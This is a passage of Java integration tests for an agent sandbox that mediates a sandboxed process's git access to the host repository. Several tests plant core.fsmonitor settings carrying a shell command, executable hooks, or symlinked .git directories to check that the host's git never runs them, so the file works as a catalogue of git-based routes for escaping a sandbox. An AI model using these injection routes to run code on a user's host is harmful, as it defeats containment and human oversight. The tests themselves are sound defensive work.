        Path back = sandbox.project("back");
        SandboxCli.Started mover = sandbox.command("--", "sh", "-c", "mv tool elsewhere/tool && while [ ! -e "
                + planted + " ]; do sleep 0.05; done && mv elsewhere/tool tool && touch " + back + " && sleep 30")
                .start();
        mover.awaitFile(away, Duration.ofSeconds(30));
        Result planter = sandbox.command("-C", sandbox.project("elsewhere").toString(), "--", "sh", "-c",
                "git -C tool config core.fsmonitor 'touch " + marker + "' && touch " + planted).run().succeeds();
        mover.awaitFile(back, Duration.ofSeconds(30));
        // the config goes aside whole
        Path config = sandbox.project("tool/.git/config");
        awaitGone(config); // the watch looks every 200 ms
        assertThat(config).as("the planted config, while the sandboxes run").doesNotExist();
        try (var aside = Files.list(config.getParent())) {
            assertThat(aside.filter(p -> p.getFileName().toString().startsWith("config.agent-sandbox-")).toList())
                    .singleElement().satisfies(p -> assertThat(sandbox.read(p)).contains("fsmonitor"));
        }
        sandbox.git("-C", "tool", "status", "--porcelain");
        assertThat(marker).as("a command the host's git ran").doesNotExist();
        mover.signal("TERM");
        Result moved = mover.waitFor(Duration.ofSeconds(30));
        // whichever live watch looks first moves it: the planter's, where the repository is
        // while it runs (it watches the whole work tree), or the mover's once it is back
        assertThat(moved.stderr() + planter.stderr()).containsAnyOf(config + " sets core.fsmonitor",
                away + " sets core.fsmonitor").contains("moved aside at once");
        assertThat(planter.exitCode()).isZero();
    }

    /**
     * A sandbox without a view of the project's git dir (started with the view off) writes
     * it directly: while it runs, the host side of a sandbox started before it applies
     * nothing there, and says so when that sandbox ends first. One started after it has no
     * view at all, and works in the git dir directly too.
     */
    @Test
    void While_A_Sandbox_Without_A_View_Runs_Nothing_Is_Applied_To_The_Git_Dir_It_Writes() throws Exception {
        String before = hostHead();
        Path started = sandbox.project("started");
        Path go = sandbox.tmp().resolve("go");
        SandboxCli.Started viewed = sandbox.command("--", "sh", "-c", "touch " + started + " && while [ ! -e " + go
                + " ]; do sleep 0.05; done && echo two >> a.txt && " + GIT + " commit -q -am second && sleep 1").start();
        viewed.awaitFile(started, Duration.ofSeconds(30));
        Path viewless = sandbox.project("viewless");
        SandboxCli.Started other = sandbox.command("--", "sh", "-c", "touch " + viewless + " && sleep 30")
                .env(GitViews.OFF_VARIABLE, "off").start();
        other.awaitFile(viewless, Duration.ofSeconds(30));
        Files.writeString(go, "");
        Result run = viewed.waitFor(Duration.ofSeconds(30)).succeeds();
        assertThat(run.stderr()).contains("the sandbox's changes to " + sandbox.project(".git")
                + " were not applied: another sandbox running now (pid ");
        assertThat(hostHead()).isEqualTo(before);

        Result after = sandbox.command("--debug", "--", "sh", "-c", "echo three >> a.txt && " + GIT
                + " commit -q -am third").run().succeeds();
        assertThat(after.stderr()).contains("no copy-on-write view of " + sandbox.project(".git")
                + " (another sandbox running now (pid ");
        assertThat(sandbox.git("log", "-1", "--format=%s").stdout()).isEqualTo("third\n");
        other.signal("TERM");
        other.waitFor(Duration.ofSeconds(30));
    }

    /**
     * A repository a sandbox makes right below the project whose {@code .git} is a link (to
     * the project's own git dir, or to another repository of the user's): the watch moves the
     * link aside, never the hook or config it leads to.
     */
    @Test
    void A_Git_Dir_Linked_Into_The_Work_Tree_Loses_The_Link_Not_What_It_Leads_To() throws Exception {
        Path hook = sandbox.write(sandbox.project(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
        Path other = sandbox.world().resolve("other");
        sandbox.mkdirs(other);
        sandbox.git("-C", other.toString(), "init", "-q");
        sandbox.git("-C", other.toString(), "config", "remote.origin.url", "https://example.invalid/x.git");
        Path otherHook = sandbox.write(other.resolve(".git/hooks/pre-push"), "#!/bin/sh\nexit 0\n");
        sandbox.chownAll();
        Path planted = sandbox.project("planted");
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "mkdir one two && ln -s "
                + sandbox.project(".git") + " one/.git && ln -s " + other.resolve(".git") + " two/.git && touch "
                + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        Thread.sleep(3 * 200 + 300); // the watch looks every 200 ms
        run.signal("TERM");
        Result result = run.waitFor(Duration.ofSeconds(30));
        assertThat(hook).exists();
        assertThat(otherHook).exists();
        assertThat(other.resolve(".git/config")).exists();
        assertThat(sandbox.git("-C", other.toString(), "config", "remote.origin.url").stdout())
                .isEqualTo("https://example.invalid/x.git\n");
        assertThat(sandbox.project("one/.git")).doesNotExist();
        assertThat(sandbox.project("two/.git")).doesNotExist();
        result.stderrContains("one/.git is a link the sandbox made").stderrContains("two/.git is a link the sandbox made");
    }

    @Test
    void A_Commit_Made_Inside_Reaches_The_Host_s_Branch_Right_After_It() throws Exception {
        // five commits: each on the host's branch within 0.8 s, which the host's regular look
        // (every 2 s) alone would make for all five by chance once in a hundred: the guard's
        // host side has the view applied right after the git commands it lets run
        Path go = sandbox.tmp().resolve("go");
        Path ready = sandbox.project("ready");
        StringBuilder script = new StringBuilder("git status -s >/dev/null && touch " + ready);
        for (int i = 1; i <= 5; i++) {
            script.append(" && while [ ! -e ").append(go).append("/").append(i).append(" ]; do sleep 0.05; done")
                    .append(" && echo ").append(i).append(" >> a.txt && ").append(GIT).append(" commit -q -am c")
                    .append(i);
        }
        sandbox.mkdirs(go);
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", script + " && sleep 30").start();
        run.awaitFile(ready, Duration.ofSeconds(30));
        for (int i = 1; i <= 5; i++) {
            Files.writeString(go.resolve(Integer.toString(i)), "");
            long start = System.nanoTime();
            String subject = "";
            while (System.nanoTime() - start < 800_000_000L && !subject.equals("c" + i)) {
                Thread.sleep(20);
                subject = sandbox.git("log", "-1", "--format=%s").stdout().strip();
            }
            assertThat(subject).as("the host's branch 0.8 s after commit %d inside", i).isEqualTo("c" + i);
            Thread.sleep(300 + 250 * i); // a new phase against the regular look each time
        }
        run.signal("TERM");
        run.waitFor(Duration.ofSeconds(30));
    }

    @Test
    void Host_Side_Ref_Updates_Never_Break_The_Sandbox_s_Commits() throws Exception {
        // The host writes its own git dir the whole time: commits on another branch, a
        // git status (index.lock), an update-ref of the checked-out branch to the tip it has
        // (main.lock and HEAD.lock, nothing moved), and the live apply of each commit inside.
        // The view must never show the sandbox a lock of the host's: every commit inside
        // succeeds, and the host ends with all of them and all of its own.
        sandbox.git("branch", "side");
        String branch = sandbox.git("symbolic-ref", "--short", "HEAD").stdout().strip();
        Path stop = sandbox.tmp().resolve("stop");
        Path hostCount = sandbox.tmp().resolve("host-commits");
        SandboxCli.Started host = sandbox.startOnHost(java.util.Map.of(), "sh", "-c",
                "n=0; while [ ! -e " + stop + " ]; do"
                        + " git status --porcelain >/dev/null;"
                        + " c=$(" + GIT + " commit-tree -p side -m h$n side^{tree}) &&"
                        + " git update-ref refs/heads/side $c && n=$((n+1));"
                        + " m=$(git rev-parse refs/heads/" + branch + ");"
                        + " git update-ref refs/heads/" + branch + " $m $m 2>/dev/null;"
                        + " done; echo $n > " + hostCount);
        Path done = sandbox.project("done");
        int commits = 40;
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "i=1; while [ $i -le " + commits + " ]; do"
                + " echo $i >> a.txt;"
                + " " + GIT + " commit -q -am c$i || { echo \"commit $i failed\" >&2; exit 1; };"
                + " git status --porcelain >/dev/null || { echo \"status $i failed\" >&2; exit 1; };"
                + " i=$((i+1)); done; touch " + done + "; while [ ! -e " + stop + " ]; do sleep 0.05; done").start();
        long start = System.nanoTime();
        while (!Files.exists(done) && run.isAlive() && System.nanoTime() - start < 120_000_000_000L) {
            Thread.sleep(100);
        }
        Files.writeString(stop, "");
        host.waitFor(Duration.ofSeconds(30)).succeeds();
        Result r = run.waitFor(Duration.ofSeconds(60));
        // an apply in the middle of a commit inside waits for its objects without a word
        r.succeeds().stderrDoesNotContain("an object it did not leave");
        assertThat(done).exists();

        StringBuilder expected = new StringBuilder();
        for (int i = commits; i >= 1; i--) {
            expected.append('c').append(i).append('\n');
        }
        expected.append("first\n");
        assertThat(sandbox.git("log", "--format=%s", branch).stdout()).isEqualTo(expected.toString());
        int hostCommits = Integer.parseInt(sandbox.read(hostCount).strip());
        assertThat(hostCommits).isPositive();
        assertThat(sandbox.git("rev-list", "--count", "side").stdout().strip())
                .isEqualTo(Integer.toString(hostCommits + 1));
        sandbox.git("fsck", "--no-dangling");
        assertThat(sandbox.git("status", "--porcelain", "--untracked-files=no").stdout()).isEmpty();
    }

    @Test
    void A_Commit_Amended_After_The_Host_Took_It_Is_Said_And_Every_Replaced_Tip_Kept() throws Exception {
        Path taken = sandbox.tmp().resolve("taken");
        Path ready = sandbox.project("ready");
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "echo two >> a.txt && " + GIT
                + " commit -q -am second && touch " + ready + " && while [ ! -e " + taken + " ]; do sleep 0.05; done"
                + " && " + GIT + " commit -q --amend -m 'second, amended' && sleep 2"
                + " && " + GIT + " commit -q --amend -m 'second, amended again'").start();
        run.awaitFile(ready, Duration.ofSeconds(30));
        long start = System.nanoTime();
        while (!sandbox.git("log", "-1", "--format=%s").stdout().strip().equals("second")
                && System.nanoTime() - start < 10_000_000_000L) {
            Thread.sleep(50);
        }
        String second = hostHead();
        Files.writeString(taken, "");
        Result r = run.waitFor(Duration.ofSeconds(30));
        String branch = sandbox.git("symbolic-ref", "--short", "HEAD").stdout().strip();
        String kept = "refs/agent-sandbox/heads/" + branch;
        r.succeeds().stderrContains("git: the sandbox rewrote refs/heads/" + branch
                + " after the host had taken it: the host follows it, and keeps the tips it replaced at " + kept);
        assertThat(r.stderr().split("rewrote refs/heads/", -1)).hasSize(2); // said once
        assertThat(sandbox.git("log", "-1", "--format=%s").stdout()).isEqualTo("second, amended again\n");
        // each tip the host had taken and the sandbox replaced stays recoverable
        String reflog = sandbox.git("log", "-g", "--format=%s", kept).stdout();
        assertThat(reflog).contains("second, amended\n").contains("second\n");
        assertThat(sandbox.git("rev-parse", kept + "@{1}").stdout().strip()).isEqualTo(second);
    }

    /** The host's loose objects, counted. */
    private long hostLooseObjects() throws Exception {
        try (var files = Files.walk(sandbox.project(".git/objects"))) {
            return files.filter(p -> p.getParent().getFileName().toString().length() == 2
                    && !p.getParent().getParent().getFileName().toString().equals("pack")).count();
        }
    }

    @Test
    void Agent_Sandbox_Killed_In_The_Middle_Of_An_Apply_Leaves_The_Host_s_Repository_Consistent() throws Exception {
        // each round: 4000 new objects inside, and agent-sandbox killed (SIGKILL) while the host
        // takes them; the host's repository must be whole however far the apply came
        boolean halfWay = false;
        for (int round = 0; round < 4 && !halfWay; round++) {
            String before = hostHead();
            long objectsBefore = hostLooseObjects();
            Path ready = sandbox.project("ready" + round);
            SandboxCli.Started run = sandbox.command("--", "sh", "-c", "mkdir r" + round + " && seq " + (round * 40000 + 1)
                    + " " + (round * 40000 + 40000) + " | split -l 10 -a 4 - r" + round + "/x && git add r" + round
                    + " && " + GIT + " commit -q -m r" + round + " && touch " + ready + " && sleep 30").start();
            run.awaitFile(ready, Duration.ofSeconds(60));
            Thread.sleep(40L * round);
            run.signal("KILL");
            run.waitFor(Duration.ofSeconds(30));
            SandboxCli.awaitNoHostProcessWith(sandbox.project().toString(), Duration.ofSeconds(10), "after SIGKILL");
            long taken = hostLooseObjects() - objectsBefore;
            String head = hostHead();
            halfWay |= taken > 0 && taken < 4002 || taken > 0 && head.equals(before);
            // whole: every object is what its name says, and every ref, the index and HEAD
            // point at objects the host has
            sandbox.git("fsck", "--strict", "--no-dangling");
            sandbox.git("rev-list", "--objects", "--all").succeeds();
            assertThat(head.equals(before) || sandbox.git("log", "-1", "--format=%s").stdout().equals("r" + round + "\n"))
                    .as("HEAD is the host's or the sandbox's commit").isTrue();
            sandbox.git("reset", "-q", "--hard"); // the next round starts from what the host has
        }
        assertThat(halfWay).as("one SIGKILL came while the host was taking the objects").isTrue();
    }

    @Test
    void An_Ignored_Clone_Below_The_Project_Is_A_View_Too() throws Exception {
        // a repository the project's index does not know (ignored), where the user or an IDE
        // runs git as readily as in the project
        ignoredClone("clone", "clone/\n");
        String config = sandbox.read(sandbox.project("clone/.git/config"));
        Path planted = sandbox.project("planted");
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "cd clone && printf '[core]\\n\\tfsmonitor = \"touch "
                + marker + "; false\"\\n' >> .git/config && touch " + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        Thread.sleep(2 * 200 + 300); // what the live watch would do, it has done
        sandbox.git("-C", "clone", "status", "--porcelain");
        assertThat(marker).doesNotExist();
        run.signal("TERM");
        run.waitFor(Duration.ofSeconds(30));
        assertThat(sandbox.read(sandbox.project("clone/.git/config"))).isEqualTo(config);
        sandbox.git("-C", "clone", "status");
        assertThat(marker).doesNotExist();
    }

    /**
     * A nested repository's parent is the sandbox's to rename: one put aside and replaced by
     * a link to a repository the sandbox wrote (with a hook that runs on every ref update)
     * leads neither the host's apply nor the host's git there; the sandbox's commit lands in
     * the repository the view showed, wherever it now lies.
     */
    @Test
    void A_Nested_Repository_Swapped_For_A_Link_Leads_The_Host_s_Apply_Nowhere_Else() throws Exception {
        ignoredClone("tool", "tool/\ntool.orig/\ndeep/\n");
        inside("E=deep/evil/.git && mkdir -p $E/objects $E/refs/heads $E/hooks"
                + " && echo 'ref: refs/heads/main' > $E/HEAD && printf '[core]\\n\\trepositoryformatversion = 0\\n"
                + "\\tfsmonitor = \"touch " + marker + "; false\"\\n' > $E/config"
                + " && printf '#!/bin/sh\\ntouch " + marker + "\\n' > $E/hooks/reference-transaction"
                + " && chmod +x $E/hooks/reference-transaction"
                + " && mv tool tool.orig && ln -s deep/evil tool"
                + " && cd tool.orig && " + GIT + " commit -q --allow-empty -m inside").succeeds();
        assertThat(marker).doesNotExist();
        assertThat(sandbox.git("-C", "tool.orig", "log", "--format=%s").stdout()).isEqualTo("inside\ntool\n");
        assertThat(sandbox.project("deep/evil/.git/refs/heads")).isEmptyDirectory();
        // the user's git status where the repository was: what the link leads to runs nothing
        // (the live watch took it for a new repository and moved its settings and hook aside)
        sandbox.runOnHost("git", "-C", "tool", "status");
        assertThat(marker).doesNotExist();
    }

    /**
     * A sandbox makes old directories of the project into repositories right below it (a
     * rename keeps a directory's birth time, by which the views go), as many as there are
     * views: the user's clone there, made after those directories, still gets its view in
     * the next run, because the run that made them remembers them as a sandbox's.
     */
    @Test
    void Old_Directories_A_Sandbox_Made_Into_Repositories_Do_Not_Take_The_Views_Of_The_User_s_Clone()
            throws Exception {
        StringBuilder ignore = new StringBuilder("clone/\n");
        StringBuilder convert = new StringBuilder("set -e");
        for (int i = 0; i < agentsandbox.core.git.GitViews.MAX; i++) {
            sandbox.mkdirs("old" + i);
            ignore.append("old").append(i).append("/\n");
            convert.append(" && mv old").append(i).append(" t && mkdir old").append(i).append(" && mv t old").append(i)
                    .append("/.git && echo 'ref: refs/heads/main' > old").append(i).append("/.git/HEAD");
        }
        Thread.sleep(20); // the clone is born after every one of them
        ignoredClone("clone", ignore.toString());
        inside(convert.toString()).succeeds();
        Result next = sandbox.command("--debug", "--", "true").run().succeeds();
        assertThat(next.stderr()).contains(sandbox.project("clone/.git") + ", a nested repository's git dir, is a"
                + " copy-on-write view inside too");
        assertThat(next.stderr()).contains("and the rest have no view");
    }
}
